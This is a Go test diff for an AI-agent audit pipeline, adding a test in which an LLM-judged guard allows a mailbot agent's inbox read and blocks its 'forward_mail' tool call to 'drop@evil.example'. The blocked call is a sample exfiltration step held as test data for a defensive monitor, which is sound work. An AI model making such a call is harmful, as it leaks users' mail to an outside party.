@@ -3,6 +3,7 @@ package pipeline_test
 import (
 	"context"
 	"encoding/json"
+	"errors"
 	"net/http"
 	"regexp"
 	"strings"
@@ -14,6 +15,7 @@ import (
 	"github.com/troy-audit/troy/internal/pipeline"
 	"github.com/troy-audit/troy/policies"
 	"github.com/troy-audit/troy/schemas"
+	"github.com/troy-audit/troy/sdk/agent"
 	"github.com/troy-audit/troy/sdk/llmtest"
 )
 
@@ -201,5 +203,30 @@ func TestGuardJudge(t *testing.T) {
 				t.Fatalf("risk %d, session's violations %+v", d.RiskScore, g.Violations())
 			}
 		})
+	}
+}
+
+// The guard service of a pipeline with a model judges over NATS: the SDK's check of a
+// step the model finds misaligned is blocked with the model's reason.
+func TestGuardServiceJudges(t *testing.T) {
+	model := llmtest.NewServer(judgeModel)
+	defer model.Close()
+	b, pol, _ := start(t, pipeline.Config{Only: []string{pipeline.Guard}, Explain: explainer.New(*modelConfig(model))})
+	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
+	defer cancel()
+	if _, err := pol.SetDefault(ctx, judgeCompiled(t, `{}`)); err != nil {
+		t.Fatal(err)
+	}
+	g := agent.New(b.Conn()).Guard(agent.GuardOptions{Session: "s", Agent: "mailbot", Timeout: 20 * time.Second})
+	if _, err := g.Check(ctx, "read_inbox", nil, nil, schemas.StepToolCall); err != nil {
+		t.Fatalf("an aligned step: %v", err)
+	}
+	d, err := g.Check(ctx, "forward_mail", map[string]any{"to": "drop@evil.example"}, nil, schemas.StepToolCall)
+	var blocked *agent.BlockedError
+	if !errors.As(err, &blocked) || d.Allowed || len(d.Violations) != 1 || !strings.Contains(d.Violations[0].Details, "not to forward mail") {
+		t.Fatalf("decision %+v, error %v: want blocked with the model's reason", d, err)
+	}
+	if n := len(judgeRequests(model)); n != 2 {
+		t.Fatalf("the model was asked %d judge questions, want 2", n)
 	}
 }
